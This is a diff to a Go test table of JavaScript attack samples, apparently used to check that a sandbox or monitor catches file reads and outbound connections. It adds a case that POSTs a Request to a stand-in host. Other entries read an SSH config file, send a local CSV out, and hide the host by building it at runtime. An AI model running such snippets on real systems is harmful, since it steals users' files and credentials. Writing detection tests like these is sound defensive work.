@@ -222,6 +222,7 @@ var attacks = []struct{ kind, name, src, want, run string }{
 	{"files", "import.meta.url", `import { readFileSync } from "fs"; readFileSync(new URL("../../.ssh/config", import.meta.url))`, "", "none"},
 
 	{"network", "fetch", `fetch("https://collect.example.test/x").catch(() => {})`, "connect https collect.example.test", ""},
+	{"network", "fetch of a request", `fetch(new Request("https://collect.example.test/x", { method: "POST" })).catch(() => {})`, "connect https collect.example.test", ""},
 	{"network", "fetch with data", `fetch("https://collect.example.test", { method: "POST", body: require("fs").readFileSync("data/a.csv") }).catch(() => {})`, "connect https collect.example.test", ""},
 	{"network", "host computed", `fetch("https://" + ["collect", "example", "test"].join(".")).catch(() => {})`, "connect https collect.example.test", ""},
 	{"network", "host unknown", `fetch(process.argv[2]).catch(() => {})`, "connect https", ""},
